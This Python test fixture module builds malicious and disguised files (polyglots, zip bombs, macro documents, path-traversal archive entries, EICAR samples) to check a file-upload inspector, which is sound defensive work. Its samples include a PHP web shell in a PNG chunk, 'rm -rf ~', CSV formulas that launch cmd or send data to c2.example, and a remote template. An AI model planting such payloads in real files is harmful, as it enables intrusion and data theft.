"""Files that must not be handed out, made by code: each is one way to be something else than it seems."""

import struct
import zlib
from collections.abc import Callable
from typing import Any, NamedTuple

from rules.documents.objections import ObjectionKind as Kind
from tests.support import files
from tests.support.files import EICAR


class BadFile(NamedTuple):
    """A file as it is sent, and why it is not taken; ``declared`` is empty where the sender does not say a type."""

    name: str
    make: Callable[[], bytes]
    kind: Kind
    detail: str = ""
    declared: str = ""


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200)
MACROS = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}


def zip_of(name: str, body: bytes = b"hello\n") -> bytes:
    return files.zipped({name: body})


def nested(levels: int) -> bytes:
    body = b"hello\n"
    name = "a.txt"
    for _ in range(levels):
        body, name = zip_of(name, body), "a.zip"
    return body


def overlapping() -> bytes:
    """Entries that all point at one packed file (David Fifield, "A better zip bomb", in its simplest form)."""
    local, entry = files.zip_entry(b"a.txt", bytes(900_000))
    return local + entry * 100 + files.zip_end(100, len(entry) * 100, len(local))


def two_ends() -> bytes:
    """A ZIP inside the comment of another: readers differ in which of them they find."""
    inner = files.zip_end(0, 0, 0)
    local, entry = files.zip_entry(b"a.txt", b"hello\n")
    return local + entry + files.zip_end(1, len(entry), len(local), comment=inner)


def hidden_between() -> bytes:
    first, first_entry = files.zip_entry(b"a.txt", b"hello\n")
    gap = b"hidden bytes that no entry names"
    second, second_entry = files.zip_entry(b"b.txt", b"hello\n", offset=len(first) + len(gap))
    entries = first_entry + second_entry
    return first + gap + second + entries + files.zip_end(2, len(entries), len(first) + len(gap) + len(second))


def prefixed(prefix: bytes) -> bytes:
    """A ZIP behind something else, with its offsets set right, so that every reader finds it."""
    local, entry = files.zip_entry(b"a.txt", b"hello\n", offset=len(prefix))
    return prefix + local + entry + files.zip_end(1, len(entry), len(prefix) + len(local))


def jpeg_with(*segments: bytes) -> bytes:
    picture = files.picture("JPEG")
    return picture[:2] + b"".join(segments) + picture[2:]


def script_jpeg() -> bytes:
    """A JPEG whose first segment spells "/*", so that it also is JavaScript."""
    picture = files.picture("JPEG")
    length = 0x2F2A
    head = b"\xff\xd8\xff\xe0" + struct.pack(">H", length) + b"JFIF\0\1\1\0\0\1\0\1\0\0"
    return head + bytes(length - 16) + b"*/=alert(1);/*" + picture[20:]


def claimed_jpeg(width: int, height: int) -> bytes:
    frame = files.segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0")
    return b"\xff\xd8" + frame + files.segment(0xDA, b"\1\1\0\0\x3f\0") + b"\0\xff\xd9"


def big_entry(size: int, **changes: Any) -> bytes:
    return files.raw_zip(body=bytes(size), **changes)


def mail_in_mails(levels: int) -> bytes:
    head = b"From: a@b.example\nSubject: x\nMIME-Version: 1.0\n"
    opening = b"".join(
        b"Content-Type: multipart/mixed; boundary=%d\n\n--%d\n" % (number, number) for number in range(levels)
    )
    return head + opening + b"Content-Type: text/plain\n\nhello\n"


WRONG = {
    "nothing at all": BadFile("empty.pdf", bytes, Kind.EMPTY),
    "a kind that is not on the list": BadFile("song.mp3", lambda: b"ID3\4" + bytes(50), Kind.EXTENSION),
    "no extension": BadFile("README", lambda: b"hello\n", Kind.EXTENSION),
    "a GIF, which is not on the list": BadFile("a.gif", lambda: b"GIF89a" + bytes(30), Kind.EXTENSION),
    "a program by its name": BadFile("setup.exe", lambda: PROGRAM, Kind.EXECUTABLE, "name"),
    "a program behind two extensions": BadFile("invoice.pdf.exe", lambda: PROGRAM, Kind.EXECUTABLE, "name"),
    "a program called PDF": BadFile("invoice.pdf", lambda: PROGRAM, Kind.EXECUTABLE, "windows", "application/pdf"),
    "a program for Linux called PNG": BadFile("a.png", lambda: b"\x7fELF\2\1\1" + bytes(60), Kind.EXECUTABLE, "linux"),
    "a Java class called JPEG": BadFile(
        "a.jpg", lambda: b"\xca\xfe\xba\xbe\0\0\0\x37" + bytes(60), Kind.EXECUTABLE, "java"
    ),
    "a shortcut called text": BadFile("a.txt", lambda: b"L\0\0\0\1\x14\2\0" + bytes(60), Kind.EXECUTABLE, "shortcut"),
    "a script called text": BadFile("notes.txt", lambda: b"#!/bin/sh\nrm -rf ~\n", Kind.EXECUTABLE, "script"),
    "an internet shortcut called text": BadFile(
        "a.txt", lambda: b"[InternetShortcut]\r\nURL=file://10.0.0.7/x\r\n", Kind.EXECUTABLE, "shortcut"
    ),
    "a PNG called JPEG": BadFile("a.jpg", files.png, Kind.CONTENT_TYPE, "other", "image/jpeg"),
    "a PDF called PNG": BadFile("a.png", files.pdf, Kind.CONTENT_TYPE, "other"),
    "a PDF declared as PNG": BadFile("a.pdf", files.pdf, Kind.DECLARED_TYPE, "", "image/png"),
    "a PDF declared as a web page": BadFile("a.pdf", files.pdf, Kind.DECLARED_TYPE, "", "text/html"),
    "a web page called PNG": BadFile("a.png", lambda: HTML, Kind.CONTENT_TYPE, "other"),
    "text called PDF": BadFile("a.pdf", lambda: b"hello\n", Kind.CONTENT_TYPE, "other"),
    "bytes called text": BadFile("a.txt", lambda: bytes(range(256)), Kind.CONTENT_TYPE, "other"),
    "a ZIP called Word": BadFile("a.docx", lambda: zip_of("a.txt"), Kind.CONTENT_TYPE, "other"),
    "a workbook called Word": BadFile("a.docx", lambda: files.office("xlsx"), Kind.CONTENT_TYPE, "other"),
    "a Word document called ZIP": BadFile("a.zip", files.office, Kind.CONTENT_TYPE, "other"),
    "an OpenDocument table called text": BadFile(
        "a.odt", lambda: files.open_document("spreadsheet"), Kind.CONTENT_TYPE, "other"
    ),
    "an old Word file": BadFile(
        "a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Kind.CONTENT_TYPE, "other"
    ),
    "text called mail": BadFile("a.eml", lambda: b"just some words: none\n", Kind.CONTENT_TYPE, "other"),
    "RTF called text": BadFile("a.txt", lambda: rb"{\rtf1 {\object\objdata 0105}}", Kind.CONTENT_TYPE, "rtf"),
    "PostScript called text": BadFile("a.txt", lambda: b"%!PS\n(%pipe%id) (w) file\n", Kind.CONTENT_TYPE, "postscript"),
    "a 7z": BadFile("a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(40), Kind.UNREADABLE, "archive"),
    "a TAR called ZIP": BadFile("a.zip", lambda: bytes(257) + b"ustar\0" + bytes(300), Kind.CONTENT_TYPE, "other"),
}

POLYGLOTS = {
    "a PNG with a ZIP after it": BadFile("a.png", lambda: files.png(after=zip_of("a.txt")), Kind.POLYGLOT, "zip"),
    "a PNG with a web page after it": BadFile("a.png", lambda: files.png(after=HTML), Kind.POLYGLOT, "markup"),
    "a PNG with a script in a text chunk": BadFile(
        "a.png",
        lambda: files.png(extra=files.chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?>")),
        Kind.POLYGLOT,
        "markup",
    ),
    "a PNG with something after it": BadFile("a.png", lambda: files.png(after=b"x"), Kind.POLYGLOT, "after"),
    "a JPEG with a JAR after it": BadFile(
        "a.jpg", lambda: files.picture("JPEG") + zip_of("A.class"), Kind.POLYGLOT, "zip"
    ),
    "a JPEG with a web page in its comment": BadFile(
        "a.jpg", lambda: jpeg_with(files.segment(0xFE, HTML)), Kind.POLYGLOT, "markup"
    ),
    "a JPEG with a PDF in its comment": BadFile(
        "a.jpg", lambda: jpeg_with(files.segment(0xFE, files.pdf())), Kind.POLYGLOT, "pdf"
    ),
    "a JPEG that is JavaScript": BadFile("a.jpg", script_jpeg, Kind.POLYGLOT, "script"),
    "a JPEG with something after it": BadFile("a.jpg", lambda: files.picture("JPEG") + b"SEFT", Kind.POLYGLOT, "after"),
    "a WebP with something after it": BadFile("a.webp", lambda: files.picture("WEBP") + b"x", Kind.POLYGLOT, "after"),
    "a WebP with a script in its metadata": BadFile(
        "a.webp",
        lambda: files.webp(files.picture("WEBP")[12:], files.webp_chunk(b"XMP ", HTML)),
        Kind.POLYGLOT,
        "markup",
    ),
    "a PDF that is a web page": BadFile("a.pdf", lambda: files.pdf(head=b"%" + HTML + b"\n"), Kind.POLYGLOT, "markup"),
    "a PDF behind a web page": BadFile("a.pdf", lambda: HTML + files.pdf(), Kind.POLYGLOT, "before"),
    "a PDF behind a program": BadFile("a.pdf", lambda: PROGRAM + files.pdf(), Kind.EXECUTABLE, "windows"),
    "a PDF with a ZIP after it": BadFile("a.pdf", lambda: files.pdf() + zip_of("a.exe"), Kind.POLYGLOT, "after"),
    "a PDF with a ZIP after it that ends as a PDF": BadFile(
        "a.pdf", lambda: files.pdf() + files.zipped({"a.txt": b"hello"}, comment=b"%%EOF\n"), Kind.POLYGLOT, "zip"
    ),
    "a PDF inside text": BadFile(
        "a.txt", lambda: b"hello\n" + files.pdf().replace(b"\xe2\xe3\xcf\xd3", b""), Kind.POLYGLOT, "pdf"
    ),
    "a ZIP behind a script": BadFile("a.zip", lambda: prefixed(b"#!/bin/sh\nexit\n"), Kind.EXECUTABLE, "script"),
    "a ZIP behind a picture": BadFile("a.zip", lambda: prefixed(files.png()), Kind.POLYGLOT, "before"),
    "a ZIP behind bytes": BadFile("a.zip", lambda: prefixed(b"\0\1\2\3"), Kind.POLYGLOT, "before"),
    "a ZIP behind a ZIP": BadFile("a.zip", lambda: prefixed(b"PK\3\4" + bytes(40)), Kind.POLYGLOT, "before"),
    "a ZIP with bytes after it": BadFile("a.zip", lambda: zip_of("a.txt") + b"\0", Kind.POLYGLOT, "after"),
    "a ZIP in a ZIP's comment": BadFile("a.zip", two_ends, Kind.POLYGLOT, "zip"),
    "a ZIP with a web page in its comment": BadFile(
        "a.zip", lambda: files.zipped({"a.txt": b"x"}, comment=HTML), Kind.POLYGLOT, "markup"
    ),
    "a ZIP with bytes between its files": BadFile("a.zip", hidden_between, Kind.POLYGLOT, "between"),
    "a ZIP with a PDF in an extra field": BadFile(
        "a.zip",
        lambda: files.raw_zip(extra=b"\xfe\xca" + struct.pack("<H", len(files.pdf())) + files.pdf()),
        Kind.POLYGLOT,
        "pdf",
    ),
    "a ZIP with bytes after a packed file": BadFile(
        "a.zip",
        lambda: files.raw_zip(
            body=b"hello", data=zlib.compress(b"hello")[2:-4] + b"rest", packed=len(zlib.compress(b"hello")) - 2
        ),
        Kind.POLYGLOT,
        "between",
    ),
}

ACTIVE = {
    "an SVG": BadFile("a.svg", lambda: SVG, Kind.ACTIVE, "page"),
    "a web page": BadFile("a.html", lambda: HTML, Kind.ACTIVE, "page"),
    "a web page called text": BadFile("a.txt", lambda: HTML, Kind.ACTIVE, "page", "text/plain"),
    "a web page further down in text": BadFile(
        "a.txt", lambda: b"hello\n" * 900_000 + b"<script>alert(1)</script>", Kind.ACTIVE, "page"
    ),
    "a web page in UTF-16": BadFile("a.txt", lambda: HTML.decode().encode("utf-16"), Kind.ACTIVE, "page"),
    "an SVG called text": BadFile("a.txt", lambda: SVG, Kind.ACTIVE, "page"),
    "a PDF with JavaScript": BadFile(
        "a.pdf",
        lambda: files.pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        Kind.ACTIVE,
        "pdf_javascript",
    ),
    "a PDF with JavaScript under an escaped name": BadFile(
        "a.pdf", lambda: files.pdf(page=b"/AA << /O << /S /J#61va#53cript /JS (x) >> >>"), Kind.ACTIVE, "pdf_javascript"
    ),
    "a PDF with JavaScript in a packed object": BadFile(
        "a.pdf", lambda: files.pdf(files.object_stream(b"<< /S /JavaScript /JS (x) >>")), Kind.ACTIVE, "pdf_javascript"
    ),
    "a PDF with JavaScript in a packed object that is not called one": BadFile(
        "a.pdf",
        lambda: files.pdf(files.object_stream(b"<< /S /JavaScript /JS (x) >>", type_=b"/Other")),
        Kind.ACTIVE,
        "pdf_javascript",
    ),
    "a PDF that starts a program": BadFile(
        "a.pdf", lambda: files.pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), Kind.ACTIVE, "pdf_launch"
    ),
    "a PDF with a file inside": BadFile(
        "a.pdf", lambda: files.pdf(files.stream(b"/Type /EmbeddedFile", EICAR)), Kind.ACTIVE, "pdf_embedded"
    ),
    "a PDF that names files inside": BadFile(
        "a.pdf", lambda: files.pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"), Kind.ACTIVE, "pdf_embedded"
    ),
    "a PDF with a form that is sent": BadFile(
        "a.pdf",
        lambda: files.pdf(page=b"/AA << /O << /S /SubmitForm /F (http://c2.example) >> >>"),
        Kind.ACTIVE,
        "pdf_form",
    ),
    "a PDF that opens a file elsewhere": BadFile(
        "a.pdf",
        lambda: files.pdf(catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\10.0.0.7\\\\x) >>"),
        Kind.ACTIVE,
        "pdf_elsewhere",
    ),
    "a PDF with XFA": BadFile(
        "a.pdf", lambda: files.pdf(catalog=b"/AcroForm << /XFA 9 0 R >>"), Kind.ACTIVE, "pdf_form"
    ),
    "a Word document with macros by its name": BadFile(
        "a.docm", lambda: files.office(parts=MACROS), Kind.ACTIVE, "macros"
    ),
    "a Word document with macros": BadFile("a.docx", lambda: files.office(parts=MACROS), Kind.ACTIVE, "macros"),
    "a Word document that says it has macros": BadFile(
        "a.docx",
        lambda: files.office(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Kind.ACTIVE,
        "macros",
    ),
    "a workbook with macros of Excel 4": BadFile(
        "a.xlsx", lambda: files.office("xlsx", parts={"xl/macrosheets/sheet1.xml": b"<a/>"}), Kind.ACTIVE, "macros"
    ),
    "macros under another name": BadFile(
        "a.docx",
        lambda: files.office(
            parts={"word/_rels/document.xml.rels": files.relationships(("vbaProject", "x.dat", "Internal"))}
        ),
        Kind.ACTIVE,
        "macros",
    ),
    "a Word document with a template from elsewhere": BadFile(
        "a.docx",
        lambda: files.office(
            parts={
                "word/_rels/settings.xml.rels": files.relationships(
                    ("attachedTemplate", "http://c2.example/a.dotm", "&#69;xternal")
                )
            }
        ),
        Kind.ACTIVE,
        "template",
    ),
    "a Word document with an object of another program": BadFile(
        "a.docx", lambda: files.office(parts={"word/embeddings/oleObject1.bin": b"x"}), Kind.ACTIVE, "object"
    ),
    "a Word document with a field that starts a program": BadFile(
        "a.docx",
        lambda: files.office(parts={"word/document.xml": files.word("x", instructions="DDEAUTO c:\\cmd.exe")}),
        Kind.ACTIVE,
        "object",
    ),
    "a Word document whose XML grows": BadFile(
        "a.docx",
        lambda: files.office(parts={"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
        Kind.ACTIVE,
        "entities",
    ),
    "an OpenDocument with macros": BadFile(
        "a.odt", lambda: files.open_document(parts={"Basic/Standard/Module1.xml": b"<a/>"}), Kind.ACTIVE, "macros"
    ),
    "an OpenDocument that runs something when it opens": BadFile(
        "a.odt",
        lambda: files.open_document(
            parts={"styles.xml": b'<a><b xmlns:x="y" x:href="vnd.sun.star.script:a.py$b"/></a>'}
        ),
        Kind.ACTIVE,
        "macros",
    ),
    "a CSV that starts a program": BadFile(
        "a.csv", lambda: b"name,sum\n=cmd|' /C calc'!A0,1\n", Kind.ACTIVE, "formula"
    ),
    "a CSV that calls an address": BadFile(
        "a.csv", lambda: b'name;sum\nx;"=HYPERLINK(""http://c2.example?""&A1)"\n', Kind.ACTIVE, "formula"
    ),
    "a mail with a web page attached": BadFile(
        "a.eml", lambda: files.mail(("voice.html", "text/html", HTML)), Kind.ACTIVE, "page"
    ),
}

BOMBS = {
    "a PNG of ten thousand megapixels": BadFile("a.png", lambda: files.png(100_000, 100_000, claims=True), Kind.PIXELS),
    "an animated PNG of many frames": BadFile(
        "a.png",
        lambda: files.png(2000, 2000, claims=True, extra=files.chunk(b"acTL", struct.pack(">2L", 1000, 0))),
        Kind.PIXELS,
    ),
    "a JPEG of four thousand megapixels": BadFile("a.jpg", lambda: claimed_jpeg(65_000, 65_000), Kind.PIXELS),
    "a WebP of a hundred megapixels": BadFile(
        "a.webp",
        lambda: files.webp(files.webp_chunk(b"VP8L", b"\x2f" + struct.pack("<L", 9999 | 9999 << 14))),
        Kind.PIXELS,
    ),
    "a PNG without pixels": BadFile("a.png", lambda: files.png(0, 9, claims=True), Kind.MALFORMED, "image"),
    "a PNG that is cut off": BadFile("a.png", lambda: files.png()[:-14], Kind.MALFORMED, "cut_off"),
    "a PNG with a wrong sum": BadFile(
        "a.png", lambda: files.png().replace(b"\x08\x02", b"\x08\x06", 1), Kind.LYING, "sum"
    ),
    "a PDF that is cut off": BadFile("a.pdf", lambda: files.pdf()[:-8], Kind.MALFORMED, "cut_off"),
    "a PDF that unpacks to much": BadFile(
        "a.pdf",
        lambda: files.pdf(files.stream(b"/Filter /FlateDecode", zlib.compress(bytes(9_000_000)))),
        Kind.BOMB,
        "total",
    ),
    "a PDF packed in another way": BadFile(
        "a.pdf",
        lambda: files.pdf(files.stream(b"/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode", b"3230203020>")),
        Kind.UNREADABLE,
        "pdf",
    ),
    "a PDF packed twice": BadFile(
        "a.pdf",
        lambda: files.pdf(
            files.stream(
                b"/Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode]",
                zlib.compress(zlib.compress(b"20 0 /JavaScript")),
            )
        ),
        Kind.UNREADABLE,
        "pdf",
    ),
    "an encrypted PDF": BadFile("a.pdf", lambda: files.pdf(trailer=b"/Encrypt 9 0 R"), Kind.ENCRYPTED, "pdf"),
    "a ZIP of one long file": BadFile("a.zip", lambda: big_entry(3_000_000), Kind.BOMB, "ratio"),
    "a ZIP of many long files": BadFile(
        "a.zip", lambda: files.zipped({f"{one}.txt": b" " * 1_000_000 for one in range(9)}), Kind.BOMB, "total"
    ),
    "a ZIP of thousands of files": BadFile(
        "a.zip", lambda: files.zipped({f"{one}.txt": b"" for one in range(400)}), Kind.TOO_MANY, "entries"
    ),
    "ZIPs in ZIPs in ZIPs": BadFile("a.zip", lambda: nested(3), Kind.NESTED, "archives"),
    "a Word document in a ZIP in a ZIP": BadFile(
        "a.zip", lambda: zip_of("b.zip", zip_of("c.docx", files.office())), Kind.NESTED, "archives"
    ),
    "a ZIP of ZIPs of long files": BadFile(
        "a.zip",
        lambda: files.zipped({f"{one}.zip": zip_of("a.txt", b" " * 1_000_000) for one in range(9)}),
        Kind.BOMB,
        "total",
    ),
    "a ZIP with files that share their bytes": BadFile("a.zip", overlapping, Kind.OVERLAP),
    "a ZIP that says it is small": BadFile("a.zip", lambda: big_entry(3_000_000, unpacked=10), Kind.LYING, "size"),
    "a ZIP that says it is large": BadFile("a.zip", lambda: files.raw_zip(unpacked=900), Kind.LYING, "size"),
    "a ZIP with a wrong sum": BadFile("a.zip", lambda: files.raw_zip(crc=1), Kind.LYING, "sum"),
    "a ZIP with two sizes": BadFile("a.zip", lambda: files.raw_zip(local_unpacked=5), Kind.LYING, "header"),
    "a ZIP with two names": BadFile("a.zip", lambda: files.raw_zip(local_name=b"b.exe"), Kind.LYING, "header"),
    "a ZIP with two ways of packing": BadFile("a.zip", lambda: files.raw_zip(local_method=0), Kind.LYING, "header"),
    "a ZIP packed in another way": BadFile("a.zip", lambda: files.raw_zip(method=12), Kind.UNREADABLE, "method"),
    "a ZIP with a password": BadFile("a.zip", lambda: files.raw_zip(flags=0x801), Kind.ENCRYPTED, "archive"),
    "a ZIP that is cut off": BadFile("a.zip", lambda: zip_of("a.txt")[:-9], Kind.POLYGLOT, "after"),
    "a ZIP without its end": BadFile("a.zip", lambda: zip_of("a.txt")[:40], Kind.MALFORMED, "after"),
    "a ZIP that counts wrong": BadFile(
        "a.zip",
        lambda: zip_of("a.txt")[:-14] + struct.pack("<2H", 9, 9) + zip_of("a.txt")[-10:],
        Kind.MALFORMED,
        "directory",
    ),
    "an OpenDocument with a password": BadFile(
        "a.odt",
        lambda: files.open_document(parts={"META-INF/manifest.xml": b"<a><encryption-data/></a>"}),
        Kind.ENCRYPTED,
        "office",
    ),
    "a Word document with a password": BadFile(
        "a.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        Kind.ENCRYPTED,
        "office",
    ),
    "mails in mails without end": BadFile("a.eml", lambda: mail_in_mails(5000), Kind.NESTED, "parts"),
}

ARCHIVED = {
    "a name that climbs": BadFile("a.zip", lambda: zip_of("../../etc/cron.d/x"), Kind.UNSAFE_NAME, "escapes"),
    "a name that climbs in the middle": BadFile("a.zip", lambda: zip_of("a/../../x"), Kind.UNSAFE_NAME, "escapes"),
    "a name that climbs as Windows writes it": BadFile(
        "a.zip", lambda: files.raw_zip(name=b"..\\x.txt"), Kind.UNSAFE_NAME, "escapes"
    ),
    "a name from the root": BadFile("a.zip", lambda: files.raw_zip(name=b"/etc/passwd"), Kind.UNSAFE_NAME, "escapes"),
    "a name on a drive": BadFile("a.zip", lambda: files.raw_zip(name=b"C:/x.txt"), Kind.UNSAFE_NAME, "escapes"),
    "a name that turns": BadFile(
        "a.zip", lambda: files.raw_zip(name="a\u202etxt.exe".encode()), Kind.UNSAFE_NAME, "escapes"
    ),
    "a name with a line break": BadFile("a.zip", lambda: files.raw_zip(name=b"a\nb.txt"), Kind.UNSAFE_NAME, "escapes"),
    "a name with a zero": BadFile("a.zip", lambda: files.raw_zip(name=b"a.txt\0.exe"), Kind.UNSAFE_NAME, "escapes"),
    "a name of a device": BadFile("a.zip", lambda: zip_of("folder/NUL.txt"), Kind.UNSAFE_NAME, "escapes"),
    "a name that is none": BadFile("a.zip", lambda: files.raw_zip(name=b"\xff\xfe.txt"), Kind.MALFORMED, "name"),
    "a second name that climbs": BadFile(
        "a.zip",
        lambda: files.raw_zip(extra=b"up" + struct.pack("<HBL", 14, 1, 0) + b"../../x.y"),
        Kind.UNSAFE_NAME,
        "escapes",
    ),
    "one name twice": BadFile("a.zip", lambda: files.zipped({"a.txt": b"1", "A.TXT": b"2"}), Kind.UNSAFE_NAME, "twice"),
    "a link": BadFile("a.zip", lambda: files.raw_zip(body=b"/etc/passwd", attributes=0o120777 << 16), Kind.LINK),
    "a device": BadFile("a.zip", lambda: files.raw_zip(attributes=0o020666 << 16), Kind.LINK),
    "a program": BadFile("a.zip", lambda: zip_of("a/setup.exe", PROGRAM), Kind.EXECUTABLE, "name"),
    "a program under another name": BadFile("a.zip", lambda: zip_of("data.bin", PROGRAM), Kind.EXECUTABLE, "windows"),
    "a script": BadFile("a.zip", lambda: zip_of("run", b"#!/bin/sh\n"), Kind.EXECUTABLE, "script"),
    "a web page": BadFile("a.zip", lambda: zip_of("a.html", HTML), Kind.ACTIVE, "page"),
    "a PDF with JavaScript": BadFile(
        "a.zip",
        lambda: zip_of("a.pdf", files.pdf(catalog=b"/OpenAction << /S /JavaScript >>")),
        Kind.ACTIVE,
        "pdf_javascript",
    ),
    "a program called PDF": BadFile("a.zip", lambda: zip_of("a.pdf", PROGRAM), Kind.EXECUTABLE, "windows"),
    "a picture of many pixels": BadFile(
        "a.zip", lambda: zip_of("a.png", files.png(99_999, 99_999, claims=True)), Kind.PIXELS
    ),
    "an archive of another kind": BadFile(
        "a.zip", lambda: zip_of("a.rar", b"Rar!\x1a\7\0"), Kind.UNREADABLE, "archive"
    ),
    "an archive of another kind without its name": BadFile(
        "a.zip", lambda: zip_of("a", b"\x1f\x8b\x08" + bytes(20)), Kind.UNREADABLE, "archive"
    ),
    "a workbook with macros, in a mail": BadFile(
        "a.eml",
        lambda: files.mail(("a.xlsx", "application/zip", files.office("xlsx", parts={"xl/vbaProject.bin": b"x"}))),
        Kind.ACTIVE,
        "macros",
    ),
    "a program in a mail": BadFile(
        "a.eml", lambda: files.mail(("a.scr", "image/png", PROGRAM)), Kind.EXECUTABLE, "name"
    ),
    "a program in a mail in a mail": BadFile(
        "a.eml",
        lambda: files.mail(("b.eml", "application/octet-stream", files.mail(("a.scr", "image/png", PROGRAM)))),
        Kind.EXECUTABLE,
        "name",
    ),
    "an encrypted mail": BadFile(
        "a.eml",
        lambda: (
            b"Subject: x\nContent-Type: multipart/encrypted; boundary=b\n\n--b\n"
            b"Content-Type: application/pgp-encrypted\n\n\n--b--\n"
        ),
        Kind.ENCRYPTED,
        "email",
    ),
}

BAD = {
    **{f"wrong: {title}": one for title, one in WRONG.items()},
    **{f"polyglot: {title}": one for title, one in POLYGLOTS.items()},
    **{f"active: {title}": one for title, one in ACTIVE.items()},
    **{f"bomb: {title}": one for title, one in BOMBS.items()},
    **{f"in an archive: {title}": one for title, one in ARCHIVED.items()},
}
"""All of them. Those that need limits are refused by ``SMALL`` ones, so that they need not be large."""

INFECTED = {
    "plain": ("eicar.txt", lambda: EICAR),
    "zipped": ("eicar.zip", lambda: zip_of("eicar.txt", EICAR)),
    "zipped twice": ("eicar2.zip", lambda: zip_of("eicar.zip", zip_of("eicar.txt", EICAR))),
    "in a stream of a PDF": ("eicar.pdf", lambda: files.pdf(files.stream(b"", EICAR))),
    "in a mail": ("eicar.eml", lambda: files.mail(("eicar.txt", "text/plain", EICAR))),
}
"""Files that an inspection passes and a virus scanner finds something in."""
